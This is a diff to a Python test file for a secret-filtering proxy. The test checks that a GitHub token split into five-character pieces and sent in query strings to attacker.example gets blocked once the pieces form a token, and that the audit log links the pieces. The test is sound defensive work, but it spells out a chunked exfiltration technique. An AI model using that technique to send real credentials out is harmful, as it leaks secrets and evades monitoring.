@@ -94,18 +94,21 @@ def test_a_key_over_several_headers_is_assembled(
     assert line["rules"] == ["github_token", "assembled"]
 
 
-def test_a_key_over_several_requests_blocks_the_last_and_names_the_pieces(
+def test_a_key_over_several_requests_blocks_the_completing_one_and_names_the_pieces(
     client: httpx.Client, upstream: Upstream, proxy: ProxyProcess
 ) -> None:
     pieces = [GITHUB[i : i + 5] for i in range(0, len(GITHUB), 5)]
-    statuses = [
-        client.get(f"http://attacker.example:{upstream.plain_port}/q?i={n}&d={piece}").status_code
-        for n, piece in enumerate(pieces)
-    ]
-    assert statuses == [200] * (len(pieces) - 1) + [403]
-    assert len(upstream.received) == len(pieces) - 1  # the last piece never left
+    statuses = []
+    for n, piece in enumerate(pieces):
+        url = f"http://attacker.example:{upstream.plain_port}/q?i={n}&d={piece}"
+        statuses.append(client.get(url).status_code)
+        if statuses[-1] == 403:
+            break
+    # Blocked once the pieces make a token (`ghp_` and 30 characters), before the end.
+    assert statuses == [200] * 6 + [403]
+    assert len(upstream.received) == 6  # the completing piece never left
     first = proxy.wait_for_audit(lambda r: r["path"] == f"/q?i=0&d={pieces[0]}")
-    last = proxy.wait_for_audit(lambda r: r["path"].startswith(f"/q?i={len(pieces) - 1}&"))
+    last = proxy.wait_for_audit(lambda r: r["path"].startswith("/q?i=6&"))
     assert last["verdict"] == "block" and "assembled" in last["rules"]
     assert first["flow_id"] in last["reason"] and last["flow_id"] in last["reason"]
 
